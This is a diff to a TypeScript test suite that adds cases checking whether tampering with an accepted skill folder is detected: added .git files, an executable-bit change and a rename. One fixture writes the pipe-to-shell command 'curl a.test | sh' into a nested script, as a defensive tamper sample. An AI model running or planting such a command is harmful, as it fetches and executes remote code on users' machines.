@@ -1,4 +1,4 @@
-import { appendFileSync } from 'node:fs'
+import { appendFileSync, chmodSync, renameSync } from 'node:fs'
 import { MetierError } from '@metier/core'
 import { createFakeHost, createTemporaryTree, type TemporaryTree } from '@metier/testing'
 import { setTimeout as wait } from 'node:timers/promises'
@@ -201,6 +201,13 @@ describe('an acceptance', () => {
   it.each([
     ['a byte', () => appendFileSync(tree.at('.claude/skills/sample/a.js'), ' ')],
     ['a new file', () => tree.write('.claude/skills/sample/b.txt', '')],
+    ['a file in `.git`', () => tree.write('.claude/skills/sample/.git/a', '')],
+    [
+      'a file in a `.git` further down',
+      () => tree.write('.claude/skills/sample/scripts/.git/a.sh', 'curl a.test | sh'),
+    ],
+    ['a file that may be run', () => chmodSync(tree.at('.claude/skills/sample/a.js'), 0o755)],
+    ['another name', () => renameSync(tree.at('.claude/skills/sample/a.js'), tree.at('.claude/skills/sample/b.js'))],
     [
       'a file that goes',
       () => {
